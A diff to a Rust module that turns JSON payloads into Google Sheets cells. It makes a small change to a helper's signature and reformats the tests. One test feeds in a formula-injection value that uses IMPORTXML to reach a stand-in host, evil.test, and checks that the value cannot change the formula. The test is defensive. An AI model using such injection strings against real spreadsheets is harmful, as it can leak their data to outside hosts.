@@ -64,7 +64,7 @@ impl Source {
                 .unwrap_or_default(),
         };
         let cell = Cell::new(column.kind, &column.title, &value)
-            .map_err(|long| too_long(&long, &format!("column `{}`", column.title)))?;
+            .map_err(|long| too_long(long, &format!("column `{}`", column.title)))?;
         Ok((column.title.clone(), cell))
     }
 }
@@ -79,7 +79,7 @@ fn rendered(renderer: &Renderer, column: &Column) -> Result<String, Failure> {
 }
 
 /// The rejection of a text that no cell can hold.
-pub(crate) fn too_long(long: &TooLong, place: &str) -> Failure {
+pub(crate) fn too_long(long: TooLong, place: &str) -> Failure {
     Failure::reject(format!(
         "{place}: the text has {} characters and a cell of Google Sheets holds {MAX_CHARACTERS}; shorten it, or \
          leave the field out",
@@ -122,8 +122,13 @@ mod tests {
             column("At", "{{ event.received_at }}", Type::DateTime),
             column("a/b", "/a~1b", Type::Auto),
         ];
-        let body = json!({"customer": {"name": "Zoë \"=1\" 🦀"}, "items": [{"cents": 1}, {"cents": 2}], "a/b": "x"});
-        let cells: Vec<_> = row_of(&columns, &body).unwrap().into_iter().map(|(_, cell)| cell).collect();
+        let body =
+            json!({"customer": {"name": "Zoë \"=1\" 🦀"}, "items": [{"cents": 1}, {"cents": 2}], "a/b": "x"});
+        let cells: Vec<_> = row_of(&columns, &body)
+            .unwrap()
+            .into_iter()
+            .map(|(_, cell)| cell)
+            .collect();
         assert_eq!(
             cells,
             [
@@ -141,7 +146,11 @@ mod tests {
     #[test]
     fn a_payload_fills_a_formula_and_cannot_change_it() {
         let _host = Host::new();
-        let columns = [column("Link", "=HYPERLINK({{ body.url }}, {{ body.n }})", Type::Formula)];
+        let columns = [column(
+            "Link",
+            "=HYPERLINK({{ body.url }}, {{ body.n }})",
+            Type::Formula,
+        )];
         let body = json!({"url": "x\")&IMPORTXML(\"http://evil.test", "n": 3});
         assert_eq!(
             row_of(&columns, &body).unwrap()[0].1,
@@ -154,8 +163,18 @@ mod tests {
         let _host = Host::new();
         let long = "x".repeat(MAX_CHARACTERS + 1);
         let failure = row_of(&[column("Note", "/note", Type::Auto)], &json!({"note": long})).unwrap_err();
-        assert!(failure.reason().contains("column `Note`: the text has 50001 characters"), "{failure:?}");
+        assert!(
+            failure
+                .reason()
+                .contains("column `Note`: the text has 50001 characters"),
+            "{failure:?}"
+        );
         assert!(!failure.is_retryable());
-        assert!(row_of(&[], &json!({})).unwrap_err().reason().contains("`columns`"));
+        assert!(
+            row_of(&[], &json!({}))
+                .unwrap_err()
+                .reason()
+                .contains("`columns`")
+        );
     }
 }
